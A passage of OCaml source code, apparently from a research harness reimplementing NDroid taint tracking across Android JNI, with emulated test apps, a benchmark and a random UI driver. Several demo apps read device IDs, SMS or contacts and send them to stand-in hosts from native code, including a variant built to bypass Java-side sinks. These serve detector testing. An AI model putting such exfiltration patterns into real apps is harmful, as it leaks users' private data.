      I (Insn.Dp { cond = Insn.AL; op = Insn.MOV; s = false; rd = 4; rn = 0;
                   op2 = Insn.Reg 2 });
      (* chars = GetStringUTFChars(env, jstr, NULL) *)
      I (Insn.Dp { cond = Insn.AL; op = Insn.MOV; s = false; rd = 1; rn = 0;
                   op2 = Insn.Reg 4 });
      I (Insn.movs 2 (Insn.Imm 0));
      Call "GetStringUTFChars";
      (* newstr = NewStringUTF(env, chars) *)
      I (Insn.Dp { cond = Insn.AL; op = Insn.MOV; s = false; rd = 1; rn = 0;
                   op2 = Insn.Reg 0 });
      Call "NewStringUTF";
      I (Insn.pop [ Insn.r4; Insn.pc ]) ]
  in
  assemble ~mode:Cpu.Thumb ~extern ~base:Layout.app_lib_base items

let case1_cls = "Lcom/ndroid/demos/Case1;"

let case1 : Harness.app =
  { Harness.app_name = "case1";
    app_case = "case 1";
    description =
      "Java source -> native intermediate -> Java sink via the return value";
    classes =
      [ J.class_ ~name:case1_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:case1_cls ~name:"scramble" ~shorty:"LL" "scramble";
            J.method_ ~cls:case1_cls ~name:"main" ~shorty:"V"
              [ J.I (B.Const_string (3, "case1"));
                J.I (B.Invoke (B.Static,
                               { B.m_class = "Ljava/lang/System;";
                                 m_name = "loadLibrary" }, [ 3 ]));
                J.I (B.Invoke (B.Static, mref telephony "getDeviceId", []));
                J.I (B.Move_result 0);
                J.I (B.Invoke (B.Static, mref case1_cls "scramble", [ 0 ]));
                J.I (B.Move_result 1);
                J.I (B.Const_string (2, "collect.example.com"));
                J.I (B.Invoke (B.Static, mref socket "send", [ 2; 1 ]));
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ ("case1", case1_lib extern) ]);
    entry = (case1_cls, "main");
    expected_sink = "Socket.send" }

(* --------------------------------------------------------------- case 1' *)

let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))

let case1'_lib extern =
  let open Asm in
  let items =
    [ Label "store";
      I (Insn.push [ Insn.r4; Insn.lr ]);
      mov 1 2;
      I (Insn.mov 2 (Insn.Imm 0));
      Call "GetStringUTFChars";
      mov 1 0;
      La (0, "buffer");
      Call "strcpy";
      I (Insn.mov 0 (Insn.Imm 0));
      I (Insn.pop [ Insn.r4; Insn.pc ]);
      Label "fetch";
      I (Insn.push [ Insn.r4; Insn.lr ]);
      La (1, "buffer");
      Call "NewStringUTF";
      I (Insn.pop [ Insn.r4; Insn.pc ]);
      Align4;
      Label "buffer" ]
    @ List.init 32 (fun _ -> Word 0)
  in
  assemble ~extern ~base:Layout.app_lib_base items

let case1'_cls = "Lcom/ndroid/demos/Case1p;"

let case1' : Harness.app =
  { Harness.app_name = "case1'";
    app_case = "case 1'";
    description =
      "Java source -> native buffer; clean second call rebuilds the string \
       (NewStringUTF) and Java sends it";
    classes =
      [ J.class_ ~name:case1'_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:case1'_cls ~name:"store" ~shorty:"IL" "store";
            J.native_method ~cls:case1'_cls ~name:"fetch" ~shorty:"L" "fetch";
            J.method_ ~cls:case1'_cls ~name:"main" ~shorty:"V"
              [ J.I (B.Const (5, Dvalue.Int 0l));
                J.I (B.Invoke (B.Static, mref sms "getSmsBody", [ 5 ]));
                J.I (B.Move_result 0);
                J.I (B.Invoke (B.Static, mref contacts "getContactName", [ 5 ]));
                J.I (B.Move_result 1);
                (* concat: taint becomes sms|contacts = 0x202 *)
                J.I (B.Invoke (B.Virtual, mref string_cls "concat", [ 0; 1 ]));
                J.I (B.Move_result 2);
                J.I (B.Invoke (B.Static, mref case1'_cls "store", [ 2 ]));
                J.I (B.Invoke (B.Static, mref case1'_cls "fetch", []));
                J.I (B.Move_result 3);
                J.I (B.Const_string (4, "sync.3g.qq.com"));
                J.I (B.Invoke (B.Static, mref socket "send", [ 4; 3 ]));
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ ("case1p", case1'_lib extern) ]);
    entry = (case1'_cls, "main");
    expected_sink = "Socket.send" }

(* ---------------------------------------------------------------- case 2 *)

let case2_lib extern =
  let open Asm in
  let items =
    [ Label "exfil";
      I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
      mov 1 2;
      I (Insn.mov 2 (Insn.Imm 0));
      Call "GetStringUTFChars";
      mov 4 0;
      (* len = strlen(chars) *)
      Call "strlen";
      mov 5 0;
      (* fd = socket(...) *)
      Call "socket";
      mov 6 0;
      (* connect(fd, "info.3g.qq.com") *)
      La (1, "dest");
      Call "connect";
      (* send(fd, chars, len) *)
      mov 0 6;
      mov 1 4;
      mov 2 5;
      Call "send";
      I (Insn.mov 0 (Insn.Imm 0));
      I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
      Align4;
      Label "dest";
      Asciz "info.3g.qq.com" ]
  in
  assemble ~extern ~base:Layout.app_lib_base items

let case2_cls = "Lcom/ndroid/demos/Case2;"

let case2 : Harness.app =
  { Harness.app_name = "case2";
    app_case = "case 2";
    description = "Java source -> native sink (send from native code)";
    classes =
      [ J.class_ ~name:case2_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:case2_cls ~name:"exfil" ~shorty:"IL" "exfil";
            J.method_ ~cls:case2_cls ~name:"main" ~shorty:"V"
              [ J.I (B.Const (5, Dvalue.Int 0l));
                J.I (B.Invoke (B.Static, mref contacts "getContactEmail", [ 5 ]));
                J.I (B.Move_result 0);
                J.I (B.Invoke (B.Static, mref case2_cls "exfil", [ 0 ]));
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ ("case2", case2_lib extern) ]);
    entry = (case2_cls, "main");
    expected_sink = "send" }

(* ---------------------------------------------------------------- case 3 *)

(* Shared prologue: pull the device id out of Java through JNI and leave the
   C string pointer in r0.  Clobbers r4-r6; expects env saved in r9. *)
let harvest_body =
  let open Asm in
  [ (* cls = FindClass("Landroid/telephony/TelephonyManager;") *)
    mov 0 9;
    La (1, "cls_name");
    Call "FindClass";
    mov 4 0;
    (* mid = GetStaticMethodID(cls, "getDeviceId", sig) *)
    mov 0 9;
    mov 1 4;
    La (2, "m_name");
    La (3, "m_sig");
    Call "GetStaticMethodID";
    mov 5 0;
    (* jstr = CallStaticObjectMethod(env, cls, mid) *)
    mov 0 9;
    mov 1 4;
    mov 2 5;
    Call "CallStaticObjectMethod";
    mov 6 0;
    (* chars = GetStringUTFChars(env, jstr, NULL) *)
    mov 0 9;
    mov 1 6;
    I (Insn.mov 2 (Insn.Imm 0));
    Call "GetStringUTFChars" ]

let harvest_data =
  let open Asm in
  [ Align4;
    Label "cls_name";
    Asciz "Landroid/telephony/TelephonyManager;";
    Label "m_name";
    Asciz "getDeviceId";
    Label "m_sig";
    Asciz "()Ljava/lang/String;" ]

let case3_lib extern =
  let open Asm in
  let items =
    [ Label "harvest";
      I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
      mov 9 0 ]
    @ harvest_body
    @ [ (* newstr = NewStringUTF(env, chars) *)
        mov 1 0;
        mov 0 9;
        Call "NewStringUTF";
        I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]) ]
    @ harvest_data
  in
  assemble ~extern ~base:Layout.app_lib_base items

let case3_cls = "Lcom/ndroid/demos/Case3;"

let case3 : Harness.app =
  { Harness.app_name = "case3";
    app_case = "case 3";
    description =
      "native pulls the data from Java through JNI, rebuilds it, Java sends \
       the new object";
    classes =
      [ J.class_ ~name:case3_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:case3_cls ~name:"harvest" ~shorty:"L" "harvest";
            J.method_ ~cls:case3_cls ~name:"main" ~shorty:"V"
              [ J.I (B.Invoke (B.Static, mref case3_cls "harvest", []));
                J.I (B.Move_result 0);
                J.I (B.Const_string (1, "stats.tracker.example"));
                J.I (B.Invoke (B.Static, mref socket "send", [ 1; 0 ]));
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ ("case3", case3_lib extern) ]);
    entry = (case3_cls, "main");
    expected_sink = "Socket.send" }

(* ---------------------------------------------------------------- case 4 *)

let case4_lib extern =
  let open Asm in
  let items =
    [ Label "harvest_send";
      I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.lr ]);
      mov 9 0 ]
    @ harvest_body
    @ [ mov 4 0;
        (* len = strlen(chars) *)
        Call "strlen";
        mov 5 0;
        Call "socket";
        mov 6 0;
        (* sendto(fd, chars, len, 0, dest, len(dest)) *)
        La (7, "dest4");
        I (Insn.push [ Insn.r7 ]);
        mov 0 6;
        mov 1 4;
        mov 2 5;
        I (Insn.mov 3 (Insn.Imm 0));
        Call "sendto";
        I (Insn.add 13 13 (Insn.Imm 4));
        I (Insn.mov 0 (Insn.Imm 0));
        I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.pc ]) ]
    @ harvest_data
    @ [ Label "dest4"; Asciz "drop.zone.example" ]
  in
  assemble ~extern ~base:Layout.app_lib_base items

let case4_cls = "Lcom/ndroid/demos/Case4;"

let case4 : Harness.app =
  { Harness.app_name = "case4";
    app_case = "case 4";
    description =
      "native pulls the data from Java through JNI and leaks it itself \
       (sendto), bypassing every Java-context sink";
    classes =
      [ J.class_ ~name:case4_cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls:case4_cls ~name:"harvest_send" ~shorty:"V"
              "harvest_send";
            J.method_ ~cls:case4_cls ~name:"main" ~shorty:"V"
              [ J.I (B.Invoke (B.Static, mref case4_cls "harvest_send", []));
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ ("case4", case4_lib extern) ]);
    entry = (case4_cls, "main");
    expected_sink = "sendto" }

let all = [ case1; case1'; case2; case3; case4 ]

let expected_taintdroid app = app.Harness.app_name = "case1"
