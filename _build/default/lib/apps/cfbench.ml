module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Dvalue = Ndroid_dalvik.Dvalue
module Taint = Ndroid_taint.Taint
module Device = Ndroid_runtime.Device
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Layout = Ndroid_emulator.Layout

type kind = Native | Java

type workload = {
  w_name : string;
  w_kind : kind;
  w_run : Device.t -> iterations:int -> unit;
}

let cls = "Lcom/cfbench/CfBench;"

let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))
let movi rd v = Asm.I (Insn.mov rd (Insn.Imm v))
let space n = List.init (n / 4) (fun _ -> Asm.Word 0)

let lib extern =
  let open Asm in
  let vadd p d n m = I (Insn.Vdp { cond = Insn.AL; op = Insn.VADD; prec = p; vd = d; vn = n; vm = m }) in
  let vmul p d n m = I (Insn.Vdp { cond = Insn.AL; op = Insn.VMUL; prec = p; vd = d; vn = n; vm = m }) in
  let vsub p d n m = I (Insn.Vdp { cond = Insn.AL; op = Insn.VSUB; prec = p; vd = d; vn = n; vm = m }) in
  let items =
    [ (* ---- int nativeMips(int n) ---- *)
      Label "nativeMips";
      mov 3 2;
      movi 0 0;
      movi 1 1;
      Label "mips_loop";
      I (Insn.add 0 0 (Insn.Reg 1));
      I (Insn.eor 1 1 (Insn.Reg 0));
      I (Insn.add 0 0 (Insn.Imm 7));
      I (Insn.subs 3 3 (Insn.Imm 1));
      Br (Insn.NE, "mips_loop");
      I Insn.bx_lr;

      (* ---- int nativeFlops32(int n) ---- *)
      Label "nativeFlops32";
      mov 3 2;
      Li (1, 0x3F800000) (* 1.0f *);
      I (Insn.Vmov_core { cond = Insn.AL; to_core = false; rt = 1; sn = 0 });
      Li (1, 0x3FC00000) (* 1.5f *);
      I (Insn.Vmov_core { cond = Insn.AL; to_core = false; rt = 1; sn = 1 });
      Label "f32_loop";
      vadd Insn.F32 2 0 1;
      vmul Insn.F32 3 2 1;
      vsub Insn.F32 4 3 2;
      I (Insn.subs 3 3 (Insn.Imm 1));
      Br (Insn.NE, "f32_loop");
      I (Insn.Vmov_core { cond = Insn.AL; to_core = true; rt = 0; sn = 4 });
      I Insn.bx_lr;

      (* ---- int nativeFlops64(int n) ---- *)
      Label "nativeFlops64";
      mov 3 2;
      La (1, "d_one");
      I (Insn.Vmem { cond = Insn.AL; load = true; prec = Insn.F64; vd = 0; rn = 1; offset = 0 });
      La (1, "d_half");
      I (Insn.Vmem { cond = Insn.AL; load = true; prec = Insn.F64; vd = 1; rn = 1; offset = 0 });
      Label "f64_loop";
      vadd Insn.F64 2 0 1;
      vmul Insn.F64 3 2 1;
      vsub Insn.F64 4 3 2;
      I (Insn.subs 3 3 (Insn.Imm 1));
      Br (Insn.NE, "f64_loop");
      movi 0 0;
      I Insn.bx_lr;

      (* ---- int nativeMemRead(int n) ---- *)
      Label "nativeMemRead";
      mov 3 2;
      La (1, "nbuf");
      movi 0 0;
      Label "mr_loop";
      I (Insn.ldr 2 1 0);
      I (Insn.ldr 2 1 4);
      I (Insn.ldr 2 1 8);
      I (Insn.ldr 2 1 12);
      I (Insn.add 0 0 (Insn.Reg 2));
      I (Insn.subs 3 3 (Insn.Imm 1));
      Br (Insn.NE, "mr_loop");
      I Insn.bx_lr;

      (* ---- int nativeMemWrite(int n) ---- *)
      Label "nativeMemWrite";
      mov 3 2;
      La (1, "nbuf");
      movi 0 42;
      Label "mw_loop";
      I (Insn.str 0 1 0);
      I (Insn.str 0 1 4);
      I (Insn.str 0 1 8);
      I (Insn.str 0 1 12);
      I (Insn.subs 3 3 (Insn.Imm 1));
      Br (Insn.NE, "mw_loop");
      I Insn.bx_lr;

      (* ---- int nativeMallocs(int n) ---- *)
      Label "nativeMallocs";
      I (Insn.push [ Insn.r4; Insn.lr ]);
      mov 4 2;
      Label "ma_loop";
      movi 0 64;
      Call "malloc";
      Call "free";
      I (Insn.subs 4 4 (Insn.Imm 1));
      Br (Insn.NE, "ma_loop");
      movi 0 0;
      I (Insn.pop [ Insn.r4; Insn.pc ]);

      (* ---- int nativeDiskWrite(int n) ---- *)
      Label "nativeDiskWrite";
      I (Insn.push [ Insn.r4; Insn.r5; Insn.lr ]);
      mov 4 2;
      La (0, "dpath");
      La (1, "mode_w");
      Call "fopen";
      mov 5 0;
      Label "dw_loop";
      La (0, "nbuf");
      movi 1 1;
      movi 2 64;
      mov 3 5;
      Call "fwrite";
      I (Insn.subs 4 4 (Insn.Imm 1));
      Br (Insn.NE, "dw_loop");
      mov 0 5;
      Call "fclose";
      movi 0 0;
      I (Insn.pop [ Insn.r4; Insn.r5; Insn.pc ]);

      (* ---- int nativeDiskRead(int n) ---- *)
      Label "nativeDiskRead";
      I (Insn.push [ Insn.r4; Insn.r5; Insn.lr ]);
      mov 4 2;
      La (0, "rpath");
      La (1, "mode_r");
      Call "fopen";
      mov 5 0;
      Label "dr_loop";
      La (0, "rbuf");
      movi 1 1;
      movi 2 64;
      mov 3 5;
      Call "fread";
      I (Insn.subs 4 4 (Insn.Imm 1));
      Br (Insn.NE, "dr_loop");
      mov 0 5;
      Call "fclose";
      movi 0 0;
      I (Insn.pop [ Insn.r4; Insn.r5; Insn.pc ]);

      (* ---- data ---- *)
      Align4;
      Label "d_one";
      Word 0;
      Word 0x3FF00000;
      Label "d_half";
      Word 0;
      Word 0x3FF80000;
      Label "dpath";
      Asciz "/sdcard/cfbench_out.dat";
      Label "rpath";
      Asciz "/sdcard/cfbench.dat";
      Label "mode_w";
      Asciz "w";
      Label "mode_r";
      Asciz "r";
      Align4;
      Label "nbuf" ]
    @ space 256
    @ [ Label "rbuf" ]
    @ space 256
  in
  assemble ~extern ~base:Layout.app_lib_base items

(* ---- Java workloads ---- *)

let loop_method name ~registers ~counter body =
  (* shared skeleton: run [body] until the counter register reaches 0 *)
  J.method_ ~cls ~name ~shorty:"II" ~registers
    ([ J.L "loop"; J.Ifz_l (B.Le, counter, "done") ]
     @ body
     @ [ J.I (B.Binop_lit (B.Sub, counter, counter, 1l));
         J.Goto_l "loop";
         J.L "done";
         J.I (B.Return 0) ])

let java_mips =
  loop_method "javaMips" ~registers:6 ~counter:5
    [ J.I (B.Binop (B.Add, 0, 0, 1));
      J.I (B.Binop (B.Xor, 1, 1, 0));
      J.I (B.Binop_lit (B.Add, 0, 0, 7l)) ]

let java_flops32 =
  J.method_ ~cls ~name:"javaFlops32" ~shorty:"II" ~registers:7
    [ J.I (B.Const (0, Dvalue.Float 1.0));
      J.I (B.Const (1, Dvalue.Float 1.5));
      J.L "loop";
      J.Ifz_l (B.Le, 6, "done");
      J.I (B.Binop_float (B.Add, 2, 0, 1));
      J.I (B.Binop_float (B.Mul, 3, 2, 1));
      J.I (B.Binop_float (B.Sub, 4, 3, 2));
      J.I (B.Binop_lit (B.Sub, 6, 6, 1l));
      J.Goto_l "loop";
      J.L "done";
      J.I (B.Return 0) ]

let java_flops64 =
  J.method_ ~cls ~name:"javaFlops64" ~shorty:"II" ~registers:7
    [ J.I (B.Const (0, Dvalue.Double 1.0));
      J.I (B.Const (1, Dvalue.Double 1.5));
      J.L "loop";
      J.Ifz_l (B.Le, 6, "done");
      J.I (B.Binop_double (B.Add, 2, 0, 1));
      J.I (B.Binop_double (B.Mul, 3, 2, 1));
      J.I (B.Binop_double (B.Sub, 4, 3, 2));
      J.I (B.Binop_lit (B.Sub, 6, 6, 1l));
      J.Goto_l "loop";
      J.L "done";
      J.I (B.Return 0) ]

let java_mem_read =
  J.method_ ~cls ~name:"javaMemRead" ~shorty:"II" ~registers:8
    [ J.I (B.Const (2, Dvalue.Int 64l));
      J.I (B.New_array (3, 2, "I"));
      J.I (B.Const (4, Dvalue.Int 0l));
      J.I (B.Const (0, Dvalue.Int 0l));
      J.L "loop";
      J.Ifz_l (B.Le, 7, "done");
      J.I (B.Aget (1, 3, 4));
      J.I (B.Binop (B.Add, 0, 0, 1));
      J.I (B.Binop_lit (B.Add, 4, 4, 1l));
      J.I (B.Binop_lit (B.And, 4, 4, 63l));
      J.I (B.Binop_lit (B.Sub, 7, 7, 1l));
      J.Goto_l "loop";
      J.L "done";
      J.I (B.Return 0) ]

let java_mem_write =
  J.method_ ~cls ~name:"javaMemWrite" ~shorty:"II" ~registers:8
    [ J.I (B.Const (2, Dvalue.Int 64l));
      J.I (B.New_array (3, 2, "I"));
      J.I (B.Const (4, Dvalue.Int 0l));
      J.I (B.Const (0, Dvalue.Int 42l));
      J.L "loop";
      J.Ifz_l (B.Le, 7, "done");
      J.I (B.Aput (0, 3, 4));
      J.I (B.Binop_lit (B.Add, 4, 4, 1l));
      J.I (B.Binop_lit (B.And, 4, 4, 63l));
      J.I (B.Binop_lit (B.Sub, 7, 7, 1l));
      J.Goto_l "loop";
      J.L "done";
      J.I (B.Return 0) ]

let native_names =
  [ "nativeMips"; "nativeFlops32"; "nativeFlops64"; "nativeMemRead";
    "nativeMemWrite"; "nativeMallocs"; "nativeDiskWrite"; "nativeDiskRead" ]

let classes =
  [ J.class_ ~name:cls ~super:"Ljava/lang/Object;"
      (List.map (fun n -> J.native_method ~cls ~name:n ~shorty:"II" n) native_names
       @ [ java_mips; java_flops32; java_flops64; java_mem_read; java_mem_write;
           (* self-check entry point: one short round of everything *)
           J.method_ ~cls ~name:"main" ~shorty:"V" ~registers:4
             (List.concat_map
                (fun n ->
                  [ J.I (B.Const (0, Dvalue.Int 4l));
                    J.I (B.Invoke (B.Static, { B.m_class = cls; B.m_name = n }, [ 0 ]));
                    J.I (B.Move_result 1) ])
                (native_names
                 @ [ "javaMips"; "javaFlops32"; "javaFlops64"; "javaMemRead";
                     "javaMemWrite" ])
              @ [ J.I B.Return_void ]) ]) ]

let app : Harness.app =
  { Harness.app_name = "CF-Bench";
    app_case = "benchmark";
    description = "CF-Bench-like workloads for the Fig. 10 overhead experiment";
    classes;
    build_libs = (fun extern -> [ ("cfbench", lib extern) ]);
    entry = (cls, "main");
    expected_sink = "" }

let prepare device =
  Ndroid_android.Filesystem.set_contents (Device.fs device) "/sdcard/cfbench.dat"
    (String.make 8192 'x')

let call device name ~iterations =
  ignore
    (Device.run device cls name
       [| (Dvalue.Int (Int32.of_int iterations), Taint.clear) |])

let wl name kind method_name =
  { w_name = name; w_kind = kind; w_run = (fun d ~iterations -> call d method_name ~iterations) }

let workloads =
  [ wl "Native MIPS" Native "nativeMips";
    wl "Java MIPS" Java "javaMips";
    wl "Native MSFLOPS" Native "nativeFlops32";
    wl "Java MSFLOPS" Java "javaFlops32";
    wl "Native MDFLOPS" Native "nativeFlops64";
    wl "Java MDFLOPS" Java "javaFlops64";
    wl "Native MALLOCS" Native "nativeMallocs";
    wl "Native Memory Read" Native "nativeMemRead";
    wl "Java Memory Read" Java "javaMemRead";
    wl "Native Memory Write" Native "nativeMemWrite";
    wl "Java Memory Write" Java "javaMemWrite";
    wl "Native Disk Read" Native "nativeDiskRead";
    wl "Native Disk Write" Native "nativeDiskWrite" ]
