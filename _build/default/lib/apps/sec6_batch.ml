module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Dvalue = Ndroid_dalvik.Dvalue
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Layout = Ndroid_emulator.Layout
module Ndroid = Ndroid_core.Ndroid

let contacts = "Landroid/provider/ContactsProvider;"
let sms = "Landroid/provider/SmsProvider;"
let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))
let mref cls name = { B.m_class = cls; B.m_name = name }

(* a native routine that consumes a string without leaking it: checksum the
   bytes and return the sum *)
let checksum_lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    [ Asm.Label "checksum";
      Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
      mov 1 2;
      Asm.I (Insn.mov 2 (Insn.Imm 0));
      Asm.Call "GetStringUTFChars";
      (* r0 = chars; sum bytes *)
      Asm.I (Insn.mov 1 (Insn.Imm 0));
      Asm.Label "ck_loop";
      Asm.I (Insn.ldrb 2 0 0);
      Asm.I (Insn.cmp 2 (Insn.Imm 0));
      Asm.Br (Insn.EQ, "ck_done");
      Asm.I (Insn.add 1 1 (Insn.Reg 2));
      Asm.I (Insn.add 0 0 (Insn.Imm 1));
      Asm.Br (Insn.AL, "ck_loop");
      Asm.Label "ck_done";
      mov 0 1;
      Asm.I (Insn.pop [ Insn.r4; Insn.pc ]) ]

(* a native routine over non-sensitive ints *)
let math_lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    [ Asm.Label "mix";
      Asm.I (Insn.mul 0 2 3);
      Asm.I (Insn.add 0 0 (Insn.Imm 17));
      Asm.I Insn.bx_lr ]

let delivering name cls source_invokes =
  (* tainted string -> native checksum -> result discarded *)
  { Harness.app_name = name;
    app_case = "Sec. VI batch (delivers, no leak)";
    description = "hands sensitive data to native code that only processes it";
    classes =
      [ J.class_ ~name:cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls ~name:"checksum" ~shorty:"IL" "checksum";
            J.method_ ~cls ~name:"main" ~shorty:"V" ~registers:8
              (source_invokes
               @ [ J.I (B.Invoke (B.Static, mref cls "checksum", [ 0 ]));
                   J.I (B.Move_result 1);
                   J.I B.Return_void ]) ] ];
    build_libs = (fun extern -> [ (name, checksum_lib extern) ]);
    entry = (cls, "main");
    expected_sink = "" }

let sms_backup =
  delivering "SmsBackup" "Lcom/sec6/SmsBackup;"
    [ J.I (B.Const (7, Dvalue.Int 0l));
      J.I (B.Invoke (B.Static, mref sms "getSmsBody", [ 7 ]));
      J.I (B.Move_result 0) ]

let contacts_widget =
  delivering "ContactsWidget" "Lcom/sec6/ContactsWidget;"
    [ J.I (B.Invoke (B.Static, mref contacts "queryAll", []));
      J.I (B.Move_result 0) ]

let benign_native name cls =
  (* uses JNI, but only on non-sensitive ints *)
  { Harness.app_name = name;
    app_case = "Sec. VI batch (benign)";
    description = "uses JNI on non-sensitive data";
    classes =
      [ J.class_ ~name:cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls ~name:"mix" ~shorty:"III" "mix";
            J.method_ ~cls ~name:"main" ~shorty:"V" ~registers:6
              [ J.I (B.Const (0, Dvalue.Int 6l));
                J.I (B.Const (1, Dvalue.Int 7l));
                J.I (B.Invoke (B.Static, mref cls "mix", [ 0; 1 ]));
                J.I (B.Move_result 2);
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ (name, math_lib extern) ]);
    entry = (cls, "main");
    expected_sink = "" }

let java_only name cls =
  (* touches sensitive data but never crosses into native code; declares the
     native method yet never calls it (the study saw such apps too) *)
  { Harness.app_name = name;
    app_case = "Sec. VI batch (benign)";
    description = "sensitive data stays in Java";
    classes =
      [ J.class_ ~name:cls ~super:"Ljava/lang/Object;"
          [ J.native_method ~cls ~name:"unused" ~shorty:"V" "unused";
            J.method_ ~cls ~name:"main" ~shorty:"V" ~registers:6
              [ J.I (B.Const (3, Dvalue.Int 0l));
                J.I (B.Invoke (B.Static, mref contacts "getContactName", [ 3 ]));
                J.I (B.Move_result 0);
                J.I (B.Invoke (B.Virtual,
                               { B.m_class = "Ljava/lang/String;";
                                 m_name = "length" }, [ 0 ]));
                J.I (B.Move_result 1);
                J.I B.Return_void ] ] ];
    build_libs = (fun extern -> [ (name, math_lib extern) ]);
    entry = (cls, "main");
    expected_sink = "" }

let apps =
  [ Case_studies.ephone;
    sms_backup;
    contacts_widget;
    benign_native "PhotoFilter" "Lcom/sec6/PhotoFilter;";
    benign_native "GamePhysics" "Lcom/sec6/GamePhysics;";
    benign_native "AudioEq" "Lcom/sec6/AudioEq;";
    java_only "DialerSkin" "Lcom/sec6/DialerSkin;";
    java_only "SmsTheme" "Lcom/sec6/SmsTheme;" ]

type verdict = { v_app : string; delivered_to_native : bool; leaked : bool }

let examine app =
  let o = Harness.run Harness.Ndroid_full app in
  let delivered =
    match o.Harness.stats with
    | Some s -> s.Ndroid.source_policies >= 1
    | None -> false
  in
  { v_app = app.Harness.app_name; delivered_to_native = delivered;
    leaked = o.Harness.detected }

let summary () = List.map examine apps
