(** Input generation, Sec. VI.

    "We first used one simple tool (i.e., Monkeyrunner) to generate random
    input to drive those 37,506 apps ... Since this tool may miss many
    functions involving JNI, we just found that QQPhoneBook3.5 may leak ...
    Then, we manually generated input" — random UI input misses most JNI
    paths; directed input finds them.

    A {!ui_app} is an app whose entry points are UI event handlers.  The
    random monkey fires a seeded stream of events; a script drives an exact
    sequence.  {!gated_app} is a demo app whose leak triggers only after
    the specific path settings → sync → upload. *)

type ui_app = {
  app : Harness.app;
  handlers : string list;  (** 0-argument static methods, one per UI event *)
}

type drive_result = {
  events_fired : string list;
  leaked : bool;  (** a tainted leak was reported *)
  outcome_leaks : Ndroid_android.Sink_monitor.leak list;
}

val drive_random :
  seed:int -> events:int -> mode:Harness.mode -> ui_app -> drive_result
(** Fire [events] uniformly-random handler invocations (deterministic in
    [seed]) on a fresh device under [mode]. *)

val drive_script :
  script:string list -> mode:Harness.mode -> ui_app -> drive_result
(** Fire an exact handler sequence. *)

val gated_app : ui_app
(** Six handlers — [home], [about], [settings], [account], [sync],
    [upload] — where contacts data flows to the native exfiltration routine
    only when [settings; account; sync; upload] happen in order (a state
    machine in a static field; any other event resets it).  The leak itself
    is case-2 shaped: native [send]. *)

val gated_script : string list
(** The directed input that triggers {!gated_app}'s leak. *)

val discovery_rate :
  seeds:int -> events:int -> mode:Harness.mode -> ui_app -> int
(** How many of [seeds] random monkeys trigger a leak. *)
