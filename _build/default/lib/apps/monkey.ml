module Device = Ndroid_runtime.Device
module Vm = Ndroid_dalvik.Vm
module Dvalue = Ndroid_dalvik.Dvalue
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Layout = Ndroid_emulator.Layout
module Taint = Ndroid_taint.Taint
module A = Ndroid_android

type ui_app = { app : Harness.app; handlers : string list }

type drive_result = {
  events_fired : string list;
  leaked : bool;
  outcome_leaks : A.Sink_monitor.leak list;
}

let attach_mode device = function
  | Harness.Vanilla -> Ndroid_taintdroid.Taintdroid.vanilla device
  | Harness.Taintdroid_only -> ignore (Ndroid_taintdroid.Taintdroid.attach device)
  | Harness.Droidscope_mode -> ignore (Ndroid_core.Droidscope.attach device)
  | Harness.Ndroid_full -> ignore (Ndroid_core.Ndroid.attach device)

let drive events_of_handlers ~mode ui =
  let device = Harness.boot ui.app in
  attach_mode device mode;
  let cls, _ = ui.app.Harness.entry in
  let fired =
    List.map
      (fun handler ->
        (try ignore (Device.run device cls handler [||])
         with Vm.Java_throw _ -> ());
        handler)
      events_of_handlers
  in
  let leaks = A.Sink_monitor.leaks (Device.monitor device) in
  { events_fired = fired;
    leaked = List.exists (fun l -> Taint.is_tainted l.A.Sink_monitor.taint) leaks;
    outcome_leaks = leaks }

let mix seed i =
  let z = ref ((seed * 0x9E3779B9) lxor (i * 0x85EBCA6B)) in
  z := (!z lxor (!z lsr 13)) * 0x2C1B3C6D land max_int;
  !z lxor (!z lsr 16)

let drive_random ~seed ~events ~mode ui =
  let n = List.length ui.handlers in
  let sequence =
    List.init events (fun i -> List.nth ui.handlers (mix seed i mod n))
  in
  drive sequence ~mode ui

let drive_script ~script ~mode ui = drive script ~mode ui

(* ---- the gated demo app ---- *)

let cls = "Lcom/ndroid/demos/Gated;"
let state = { B.f_class = cls; f_name = "state" }

let exfil_lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    [ Asm.Label "exfil";
      Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
      Asm.I (Insn.mov 1 (Insn.Reg 2));
      Asm.I (Insn.mov 2 (Insn.Imm 0));
      Asm.Call "GetStringUTFChars";
      Asm.I (Insn.mov 4 (Insn.Reg 0));
      Asm.Call "strlen";
      Asm.I (Insn.mov 5 (Insn.Reg 0));
      Asm.Call "socket";
